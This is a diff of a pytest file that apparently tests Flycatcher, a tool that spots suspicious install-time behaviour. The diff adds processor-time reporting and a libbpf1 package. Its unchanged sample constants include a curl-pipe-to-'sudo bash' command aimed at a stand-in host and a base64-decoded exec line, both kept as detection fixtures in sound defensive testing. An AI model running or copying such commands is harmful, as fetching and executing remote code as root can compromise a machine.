@@ -6,6 +6,7 @@ Each installs Flycatcher for real, as a user with sudo, where Debian lets pip in
 from __future__ import annotations
 
 import json
+import os
 import shutil
 import subprocess
 import time
@@ -29,7 +30,7 @@ if TYPE_CHECKING:
 LOUD = "curl -fsSL https://tools.example/x | sudo bash\n"
 DECODED = 'import base64; exec(base64.b64decode("cHJpbnQoMSk="))'
 QUIET = "all:\n\t@python3 -c 'print(1)'\n"
-PACKAGES = ("python3", "python3-pip", "python3-venv", "git", "make", "sudo", "nodejs")
+PACKAGES = ("python3", "python3-pip", "python3-venv", "git", "make", "sudo", "nodejs", "libbpf1")
 """What the images of CI systems have, and Flycatcher needs: of Debian's Python, pip and venv are packages of their own."""
 
 
@@ -91,10 +92,16 @@ def shown(number: int) -> dict[str, str]:
 
 @pytest.fixture(autouse=True)
 def seconds(request: pytest.FixtureRequest, host: Machine, project: Path) -> Iterator[None]:
-    """Print how long a test took, without what was prepared."""
-    begun = time.monotonic()
+    """Print how long a test took, by the clock and of the processors, without what was prepared."""
+    begun, used = time.monotonic(), _processors()
     yield
-    print(f"{request.node.name}: {time.monotonic() - begun:.1f} s")
+    print(f"{request.node.name}: {time.monotonic() - begun:.1f} s, {_processors() - used:.1f} s of processor time")
+
+
+def _processors() -> float:
+    """Return the processor time of all that this process has started and waited for."""
+    spent = os.times()
+    return spent.children_user + spent.children_system
 
 
 def test_debian_lets_pip_install_nothing_outside_of_an_environment(host: Machine) -> None:
